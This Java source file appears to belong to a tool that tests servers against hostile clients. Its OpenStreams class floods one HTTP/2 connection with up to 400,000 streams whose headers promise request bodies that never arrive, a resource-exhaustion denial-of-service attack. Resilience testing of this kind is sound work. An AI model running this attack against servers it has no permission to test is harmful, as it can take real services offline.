package dev.coatcheck.cli.hostile.attack;

import dev.coatcheck.cli.hostile.wire.Frames;
import dev.coatcheck.cli.hostile.wire.Http2Connection;
import java.io.IOException;
import java.util.Set;

/** 400,000 requests on one connection, none of which goes on behind its headers. */
final class OpenStreams implements Attack {

  private static final int STREAMS = 400_000;
  private static final int AT_ONCE = 500;

  @Override
  public String name() {
    return "400,000 open streams";
  }

  @Override
  public Set<Door> doors() {
    return Set.of(Door.values());
  }

  @Override
  public void strike(Attacker attacker) throws IOException {
    byte[] first = attacker.door().firstRequestWithBody().toBytes();
    byte[] next = attacker.door().nextRequestWithBody().toBytes();
    Http2Connection connection = attacker.http2();
    connection.send(new Frames().headers(connection.nextStream(), first, Frames.END_HEADERS));
    for (int opened = 0; opened < STREAMS && !attacker.isOver(); opened += AT_ONCE) {
      Frames frames = new Frames();
      for (int i = 0; i < AT_ONCE; i++) {
        frames.headers(connection.nextStream(), next, Frames.END_HEADERS);
      }
      connection.send(frames);
    }
  }
}
